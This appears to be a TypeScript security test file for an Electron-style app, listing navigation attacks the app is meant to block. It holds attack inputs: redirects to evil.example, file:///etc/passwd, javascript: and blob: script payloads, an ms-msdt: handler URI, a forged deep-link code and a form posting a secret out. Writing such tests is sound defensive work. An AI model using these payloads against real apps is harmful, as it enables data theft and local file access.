import { type Attack, attack, gain, lateAttack } from '../attack.ts';
import { go, withHtml } from '../in-page.ts';

const evil = 'https://evil.example';

/** Addresses that a script sends the page to. */
const addresses: readonly [string, string][] = [
  ['another site', `${evil}/`],
  ['another host of the app’s own scheme', 'https://other.app.invalid/'],
  ['a file on this computer', 'file:///etc/passwd'],
  ['javascript:', 'javascript:globalThis.pwned="javascript:"'],
  ['data:', 'data:text/html,<h1>evil</h1>'],
  ['a page of Chromium itself', 'chrome://version/'],
  ['the app’s own deep link', 'vitae://signed-in?code=evil-code&state=x'],
  ['another program', 'ms-msdt:/id PCWDiagnostic'],
];

/** Leaving the page, with and without the user’s help. */
export const navigation: readonly Attack[] = [
  ...addresses.map(([name, address]) =>
    lateAttack(`a script navigates the page to ${name}`, async ({ page }) => go(page, address)),
  ),
  lateAttack('a script navigates the page to a blob: address', async ({ page }) => {
    await page.evaluate(() => {
      location.href = URL.createObjectURL(
        new Blob(['<script>globalThis.pwned = "blob"</script>'], { type: 'text/html' }),
      );
    });
    return '';
  }),
  lateAttack('a meta element refreshes the page to another site', async ({ page }) => {
    await page.evaluate((to) => {
      const meta = document.createElement('meta');
      Object.assign(meta, { httpEquiv: 'refresh', content: `0;url=${to}` });
      document.head.append(meta);
      meta.remove();
    }, `${evil}/refreshed`);
    return '';
  }),
  lateAttack('a form posts the page to another site, where no policy holds', async ({ bare }) => {
    const page = await bare();
    await withHtml(page, `<form method="post" action="${evil}/form"><input name="secret" value="1"></form>`);
    await page.evaluate(() => document.forms.item(document.forms.length - 1)?.submit());
    return '';
  }),
  lateAttack('a frame of another site, where no policy holds', async (computer) => {
    await withHtml(await computer.bare(), `<iframe src="${evil}/framed"></iframe>`);
    return '';
  }),
  attack('a frame goes to the app’s own pages', async ({ control }) =>
    gain(
      !(await control.emitOnPage('will-frame-navigate', { url: 'app://vitae/account/settings', isMainFrame: false })),
      'the frame went there',
    ),
  ),
  attack('an embedded webview', async ({ control }) =>
    gain(!(await control.emitOnPage('will-attach-webview')), 'the view was attached'),
  ),
  attack('a page is dropped onto a new window', async ({ bare, control, treasure }) => {
    await bare();
    const second = (await control.windows()).at(-1)?.id;
    return gain(await control.dropFile(treasure.replace('.json', '.html'), second), 'the window went to the file');
  }),
  lateAttack('a file dropped in by script is opened by nobody', async ({ page }) => {
    await page.evaluate(() => {
      const given = new DataTransfer();
      given.items.add(new File(['<script>globalThis.pwned = "dropped"</script>'], 'page.html', { type: 'text/html' }));
      given.setData('text/uri-list', 'https://evil.example/dropped');
      for (const type of ['dragenter', 'dragover', 'drop'])
        document.body.dispatchEvent(new DragEvent(type, { dataTransfer: given, bubbles: true, cancelable: true }));
    });
    return '';
  }),
  attack('a redirect to another site', async ({ control }) =>
    gain(
      !(await control.emitOnPage('will-redirect', { url: `${evil}/`, isMainFrame: true })),
      'the redirect was followed',
    ),
  ),
];
